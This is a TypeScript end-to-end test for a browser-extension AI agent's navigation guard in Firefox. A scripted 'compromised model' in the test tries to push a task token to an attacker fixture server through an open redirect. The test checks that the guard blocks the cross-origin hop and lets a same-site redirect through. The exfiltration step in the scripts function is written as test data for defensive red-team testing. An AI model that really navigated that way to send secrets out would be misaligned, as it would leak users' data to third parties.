/**
 * The navigation guard in the Firefox build (issue 24: docs/security-navigation.md): an open
 * redirect on the task's own site that hops to another origin with the page's secret is stopped
 * before the request leaves (DNR session rules whose tab condition is `excludedTabIds`, which
 * Firefox supports in session rules), and a same-site redirect still goes through without a
 * prompt. Driven through the panel's UI, as
 * agent.e2e.ts does, with a scripted compromised model.
 */
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scriptPolicy, step, type TaskScript } from '../fake-providers/script';
import { startFakeProviders, type FakeProviders } from '../fake-providers/server';
import { serveNavRoutes } from '../e2e/red-team/nav-routes';
import { startFixtureServer, type FixtureServer } from '../e2e/support/server';
import { firefoxAvailable, launchFirefox, type FirefoxExtension } from './support/firefox';

const API_KEY = 'sk-firefox-nav-SECRET-51c0';
const SCENARIO = 'firefox-nav';
const LEAK = 'TASK-TOKEN-7781';
const EXFIL_TASK = 'Verify the key on the partner site.';
const SAME_TASK = 'Open the next page.';

const run = firefoxAvailable();
let ff: FirefoxExtension | undefined;
let server: FixtureServer | undefined;
let attacker: FixtureServer | undefined;
let fake: FakeProviders | undefined;

function ready<T>(v: T | undefined, what: string): T {
  if (v === undefined) throw new Error(`${what} is not started`);
  return v;
}

const redirect = (s: FixtureServer, to: string): string =>
  s.url(`/red-team/nav/redirect?code=302&to=${encodeURIComponent(to)}`);

function scripts(s: FixtureServer, a: FixtureServer): Map<string, TaskScript> {
  return new Map<string, TaskScript>([
    [
      EXFIL_TASK,
      { steps: [step('navigate', { url: redirect(s, a.url(`/ff-leak?d=${LEAK}`)) })], final: () => 'Done.' },
    ],
    [
      SAME_TASK,
      {
        steps: [step('navigate', { url: redirect(s, s.url('/red-team/nav-start.html?page=2')) })],
        final: () => 'Done.',
      },
    ],
  ]);
}

async function clickButton(page: Page, name: string): Promise<void> {
  await page.waitForFunction(
    (n: string) => [...document.querySelectorAll('button')].some((b) => b.textContent?.trim() === n),
    { timeout: 15_000 },
    name,
  );
  await page.evaluate((n: string) => {
    [...document.querySelectorAll('button')].find((b) => b.textContent?.trim() === n)?.click();
  }, name);
}

async function runTask(page: Page, task: string): Promise<void> {
  await page.waitForSelector('#prompt:not([disabled])', { timeout: 45_000 });
  await page.type('#prompt', task);
  await page.keyboard.press('Enter');
}

const answers = (page: Page): Promise<number> =>
  page.evaluate(() => document.querySelectorAll('[data-testid="msg-assistant"]').length);

beforeAll(async () => {
  if (!run) return;
  [server, attacker, fake] = await Promise.all([startFixtureServer(), startFixtureServer(), startFakeProviders()]);
  serveNavRoutes([server]);
  const policy = scriptPolicy(scripts(server, attacker));
  fake.scenario(SCENARIO, {
    apiKey: API_KEY,
    policy: (turn) => (turn.tools.length === 0 ? { text: 'OK' } : policy(turn)),
  });
  ff = await launchFirefox();
});
afterAll(async () => {
  await ff?.close();
  await Promise.all([server?.close(), attacker?.close(), fake?.close()]);
});

describe.skipIf(!run)('the navigation guard in Firefox', () => {
  it('stops a redirect from the task’s site to another origin, and lets a same-site redirect pass', async () => {
    const s = ready(server, 'the fixture server');
    const a = ready(attacker, 'the attacker');
    const f = ready(fake, 'fake providers');
    const firefox = ready(ff, 'Firefox');
    const start = s.url('/red-team/nav-start.html');
    const tab = await firefox.open(start);
    const p = await firefox.openPanelPage(`?tabId=${tab.tabId}`);
    await p.waitForSelector('[data-testid="first-run"]');
    await p.select('#settings-provider', 'openai-compatible');
    await p.type('#settings-model', 'gpt-4o-mini');
    await p.type('#settings-apiKey', API_KEY);
    await p.type('#settings-baseURL', f.baseURL(SCENARIO, 'openai'));
    await p.select('#settings-planFirst', 'off');
    await clickButton(p, 'Save');
    await p.waitForSelector('[data-testid="chat-list"]', { timeout: 15_000 });
    await p.click('input[name="mode"][value="act"]');

    await runTask(p, EXFIL_TASK);
    await expect.poll(() => answers(p), { timeout: 45_000 }).toBeGreaterThanOrEqual(1);
    expect(a.requests.map((r) => r.path)).toEqual([]);
    await expect.poll(() => tab.page.url(), { timeout: 10_000 }).toBe(start);

    await runTask(p, SAME_TASK);
    await expect.poll(() => answers(p), { timeout: 45_000 }).toBeGreaterThanOrEqual(2);
    await expect.poll(() => tab.page.url(), { timeout: 10_000 }).toBe(s.url('/red-team/nav-start.html?page=2'));
    expect(await p.$('[data-testid="approval"]')).toBeNull();
    expect(a.requests).toEqual([]);
  });
});
